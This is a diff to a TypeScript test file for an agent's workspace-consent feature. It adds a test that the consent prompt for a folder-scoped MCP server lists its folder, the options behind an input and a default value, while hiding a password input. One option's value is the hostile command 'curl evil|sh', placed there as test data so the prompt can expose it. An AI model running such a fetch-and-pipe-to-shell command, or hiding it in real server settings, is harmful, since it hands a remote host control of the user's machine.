@@ -5,7 +5,7 @@ import { WorkspaceConsent } from '../../../src/agents/workspace-consent.ts'
 import { type AgentDirectoryParts, agentDirectory } from '../../../src/app/agents/agent-directory.ts'
 import { type LaunchConsent, launchConsent } from '../../../src/app/agents/launch-consent.ts'
 import { silentLogger } from '../../../src/common/logger.ts'
-import type { McpServerDefinition } from '../../../src/mcp/mcp-settings.ts'
+import type { McpInput, McpServerDefinition } from '../../../src/mcp/mcp-settings.ts'
 
 describe('an agent that the settings of the workspace start', () => {
   let stored: Map<string, unknown>
@@ -112,6 +112,7 @@ describe('an agent that the settings of the workspace start', () => {
       const all = servers.map(({ scope, folder, ...content }, at) => ({
         key: String(at),
         server: { ...content, scope, ...(folder !== undefined && { folder }) } as McpServerDefinition,
+        ...{ inputs: [], folders: [] },
         content,
       }))
       return (await launches.mcpServers(all, asks)).size
@@ -132,5 +133,29 @@ describe('an agent that the settings of the workspace start', () => {
     const changed = server({ command: 'other' } as Partial<McpServerDefinition>)
     assert.equal(await ask(consent(), [changed, server()]), 1)
     assert.equal(shown.length, 4)
+  })
+
+  it('shows the folder of an MCP server and what its inputs may stand for', async () => {
+    const place = { scope: 'folder', folder: 'w' } as const
+    const server: McpServerDefinition = {
+      ...{ ...place, name: 'theirs', type: 'stdio', command: './run', disabled: false, env: {} },
+      args: ['mode', 'name', 'key'].map(id => `\${input:${id}}`),
+    }
+    const text = { ...place, type: 'promptString' as const, password: true, options: [] }
+    const options = [
+      { label: 'slow', value: 'slow' },
+      { label: 'fast', value: 'curl evil|sh' },
+    ]
+    const inputs: McpInput[] = [
+      { ...text, id: 'mode', type: 'pickString', options },
+      { ...text, id: 'name', default: 'a b' },
+      { ...text, id: 'key' },
+    ]
+    await consent().mcpServers([{ key: '', server, inputs, folders: ['/w'], content: 1 }], 'once')
+    assert.match(
+      shown[0] ?? '',
+      /^Folder: \/w\nOptions of the input mode: slow fast="curl evil\|sh"\nDefault of the input name: "a b"$/m,
+    )
+    assert.doesNotMatch(shown[0] ?? '', /key:/)
   })
 })
